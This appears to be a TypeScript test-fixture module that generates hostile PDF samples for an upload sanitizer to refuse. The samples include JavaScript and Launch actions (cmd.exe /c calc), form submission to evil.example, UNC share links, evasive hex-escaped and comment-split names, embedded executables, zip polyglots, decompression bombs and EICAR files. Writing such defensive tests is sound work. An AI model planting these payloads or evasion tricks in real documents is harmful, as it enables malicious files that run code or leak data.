import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { eicar, rawPdf } from '@thamani/server/testing/documents.ts';
import { any, draws, hostile, refused, type Hostile } from './files.ts';
import { zip } from './others.ts';

const actions: Readonly<Record<string, string>> = {
  'a script': '<</S/JavaScript/JS(app.alert(1))>>',
  'a script in a stream': '<</S/JavaScript/JS 5 0 R>>',
  'a program': '<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>',
  sending: '<</S/SubmitForm/F(https://evil.example)/Flags 4>>',
  'loading data': '<</S/ImportData/F(evil.fdf)>>',
  'another file': '<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>',
  'a file inside': '<</S/GoToE/T<</R/C/N(evil.pdf)>>>>',
  'a film': '<</S/Rendition/R<</S/MR>>/OP 0>>',
  'a sound': '<</S/Sound/Sound 5 0 R>>',
  'a script after something harmless': '<</S/Named/N/NextPage/Next<</S/JavaScript/JS(app.alert(1))>>>>',
};

const places: Readonly<Record<string, (action: string) => Parameters<typeof rawPdf>[0]>> = {
  'at opening': (action) => ({ catalog: `/OpenAction${action}` }),
  'at closing': (action) => ({ catalog: `/AA<</WC${action}>>` }),
  'on a page': (action) => ({ page: `/AA<</O${action}>>` }),
  'under a link': (action) => ({ page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A${action}>>]` }),
  'in a field': (action) => ({ catalog: `/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K${action}>>>>]>>` }),
  'where nothing leads': (action) => ({ objects: ['<<>>', action] }),
};

export async function pdfs(): Promise<readonly Hostile[]> {
  return [...acting(), ...hidden(), ...carrying(), ...(await protectedOnes()), ...overgrown(), ...broken(), ...(await infected())];
}

function acting(): Hostile[] {
  return Object.entries(places).flatMap(([where, place]) =>
    Object.entries(actions).map(([what, action]) =>
      hostile(`a PDF with ${what} ${where}`, rawPdf({ objects: ['<</Length 0>>'], ...place(action) }), refused),
    ),
  );
}

/** The same under names that are spelled otherwise, in objects that are packed, replaced or misled to. */
function hidden(): Hostile[] {
  const spelled = ['J#61vaScript', '#4aavaScript', 'JavaScrip#74', '#4a#61#76#61#53#63#72#69#70#74'].map((name) =>
    hostile(`a PDF with a script called ${name}`, rawPdf({ catalog: `/OpenAction<</S/${name}/J#53(app.alert(1))>>` }), refused),
  );
  const inner = '6 0 <</S/JavaScript/JS(app.alert(1))>>';
  const packed = deflateSync(Buffer.from(inner));
  const inStream = rawPdf({
    catalog: '/OpenAction 6 0 R',
    content: packed,
    filter: '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
  });
  const older = rawPdf({ catalog: '/OpenAction 5 0 R', objects: ['<</S/JavaScript/JS(app.alert(1))>>'] });
  const newer = Buffer.from('5 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj\ntrailer\n<</Root 1 0 R/Size 6>>\nstartxref\n0\n%%EOF\n');
  return [
    ...spelled,
    hostile('a PDF with a script in packed objects', inStream, refused),
    hostile('a PDF whose script a newer object replaces', Buffer.concat([older, newer]), refused),
    hostile(
      'a PDF with a script in the table of names',
      rawPdf({ catalog: '/Names<</JavaScript<</Names[(a)5 0 R]>>>>', objects: ['<</S/JavaScript/JS(x)>>'] }),
      refused,
    ),
    hostile(
      'a PDF with a script in a comment-split name',
      rawPdf({ catalog: '/OpenAction<</S%\n/JavaScript%x\n/JS%y\n(app.alert(1))>>' }),
      refused,
    ),
    hostile(
      'a PDF with a script in its outline',
      rawPdf({ catalog: '/Outlines 5 0 R', objects: ['<</First 6 0 R>>', '<</Title(a)/A<</S/JavaScript/JS(x)>>>>'] }),
      refused,
    ),
  ];
}

function carrying(): Hostile[] {
  const file = '<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>';
  const kept = '<</Type/EmbeddedFile/Length 0>>';
  return [
    hostile(
      'a PDF with a file in its names',
      rawPdf({ catalog: '/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>', objects: [file, kept] }),
      refused,
    ),
    hostile(
      'a PDF with a file pinned to a page',
      rawPdf({ page: '/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 5 0 R>>]', objects: [file, kept] }),
      refused,
    ),
    hostile('a PDF with an associated file', rawPdf({ catalog: '/AF[5 0 R]', objects: [file, kept] }), refused),
    hostile('a PDF that is a folder of files', rawPdf({ catalog: '/Collection<</View/D>>' }), refused),
    hostile('a PDF with rich media', rawPdf({ page: '/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]' }), refused),
    hostile('a PDF with a film on a page', rawPdf({ page: '/Annots[<</Subtype/Movie/Rect[0 0 9 9]/Movie<</F(a.avi)>>>>]' }), refused),
    hostile('a PDF with a model', rawPdf({ page: '/Annots[<</Subtype/3D/Rect[0 0 9 9]>>]' }), refused),
    hostile(
      'a PDF that is a dynamic form',
      rawPdf({ catalog: '/AcroForm<</XFA[(template)5 0 R]/Fields[]>>', objects: ['<</Length 0>>'] }),
      refused,
    ),
    hostile('a PDF with a web page behind its end', Buffer.concat([rawPdf(), Buffer.from('<script>alert(1)</script>')]), refused),
    hostile('a PDF that is also a zip', Buffer.concat([rawPdf(), zip('evil.exe', Buffer.from('MZ'))]), refused),
    hostile('a PDF that is also a web page', rawPdf({ version: '1.7<html><script>alert(1)</script>' }), any, {
      traces: ['<script', '<html'],
    }),
    hostile(
      'a PDF with a link elsewhere',
      rawPdf({ page: '/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:alert(1))>>>>]' }),
      any,
      { traces: ['javascript:'] },
    ),
    hostile('a PDF with words about its maker', rawPdf({ trailer: '/Info 5 0 R', objects: ['<</Author(secret-author)>>'] }), any, {
      traces: ['secret-author'],
    }),
  ];
}

async function protectedOnes(): Promise<Hostile[]> {
  const encrypted = async (userPassword: string): Promise<Buffer> => {
    const pdf = await PDFDocument.create();
    pdf.addPage().drawText('secret');
    pdf.encrypt({ userPassword, ownerPassword: 'owner' });
    return Buffer.from(await pdf.save());
  };
  const claimed = rawPdf({ trailer: '/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(x)/P -4>>' });
  return [
    hostile('a PDF under a password', await encrypted('user'), refused),
    hostile('a PDF under an empty password', await encrypted(''), refused),
    hostile('a PDF that only says it is encrypted', claimed, refused),
  ];
}

function overgrown(): Hostile[] {
  const flate = '/Filter/FlateDecode';
  const bomb = deflateSync(Buffer.alloc(420_000_000), { level: 9 });
  return [
    hostile('a PDF whose page inflates to 420 MB', rawPdf({ content: bomb, filter: flate }), refused),
    hostile('a PDF whose objects inflate to 420 MB', rawPdf({ content: bomb, filter: `/Type/ObjStm/N 9/First 4${flate}` }), refused),
    hostile('a PDF whose table inflates to 420 MB', rawPdf({ content: bomb, filter: `/Type/XRef/W[1 2 1]/Size 9${flate}` }), refused),
    hostile('a PDF packed twice', rawPdf({ content: deflateSync(bomb), filter: '/Filter[/FlateDecode/FlateDecode]' }), refused),
    hostile(
      'a PDF with a picture of 3.6 billion pixels',
      rawPdf({ objects: ['<</Type/XObject/Subtype/Image/Width 60000/Height 60000/Length 0>>'] }),
      refused,
    ),
    hostile('a PDF of a hundred thousand brackets', rawPdf({ objects: ['['.repeat(100_000) + ']'.repeat(100_000)] }), refused),
    hostile(
      'a PDF of fifty thousand dictionaries in each other',
      rawPdf({ objects: ['<</A'.repeat(50_000) + ' 1 ' + '>>'.repeat(50_000)] }),
      refused,
    ),
    hostile(
      'a PDF whose pages lead to themselves',
      rawPdf({ objects: ['<</Type/Pages/Kids[2 0 R 5 0 R]/Count 9>>'], catalog: '/Pages 5 0 R' }),
      any,
    ),
    hostile('a PDF with a hundred thousand objects', rawPdf({ objects: Array.from({ length: 100_000 }, () => '<</A 1>>') }), any),
    hostile(
      'a PDF of six hundred pages',
      rawPdf({ objects: ['<</Type/Pages/Kids[' + '3 0 R '.repeat(600) + ']/Count 600>>'], catalog: '/Pages 5 0 R' }),
      any,
    ),
    hostile('a PDF with a length beyond its end', rawPdf({ filter: '/Length 999999999' }), any),
  ];
}

function broken(): Hostile[] {
  const whole = rawPdf({ content: Buffer.from('BT ET '.repeat(200)) });
  const cuts = Array.from({ length: 10 }, (_, index) => Math.floor((whole.byteLength * (index + 1)) / 11));
  const random = draws(11);
  const flips = Array.from({ length: 15 }, () => {
    const bytes = Buffer.from(whole);
    for (let flip = 0; flip < 12; flip += 1) bytes[8 + Math.floor(random() * (bytes.byteLength - 8))] = Math.floor(random() * 256);
    return bytes;
  });
  return [
    ...cuts.map((cut) => hostile(`a PDF cut after ${cut} bytes`, whole.subarray(0, cut), refused)),
    ...flips.map((bytes, index) => hostile(`a PDF with changed bytes ${index}`, bytes, any)),
    hostile('a PDF of its head alone', '%PDF-1.7\n', refused),
    hostile('a PDF of head and end', '%PDF-1.7\nstartxref\n0\n%%EOF\n', refused),
    hostile('a PDF without pages', rawPdf({ objects: ['<</Type/Pages/Kids[]/Count 0>>'], catalog: '/Pages 5 0 R' }), any),
  ];
}

async function infected(): Promise<Hostile[]> {
  const attached = await PDFDocument.create();
  attached.addPage();
  await attached.attach(eicar, 'eicar.com', {});
  return [
    hostile('EICAR as a page of a PDF', rawPdf({ content: eicar }), refused, { traces: ['EICAR'] }),
    hostile('EICAR packed in a PDF', rawPdf({ content: deflateSync(eicar), filter: '/Filter/FlateDecode' }), refused, {
      traces: ['EICAR'],
    }),
    hostile(
      'EICAR as hexadecimal in a PDF',
      rawPdf({ content: Buffer.from(`${eicar.toString('hex')}>`), filter: '/Filter/ASCIIHexDecode' }),
      refused,
    ),
    hostile('EICAR attached to a PDF', Buffer.from(await attached.save()), refused),
    hostile('EICAR in a zip in a PDF', rawPdf({ content: zip('e.com', eicar) }), refused),
    hostile('EICAR in a zip behind a PDF', Buffer.concat([rawPdf(), zip('e.com', eicar)]), refused),
  ];
}
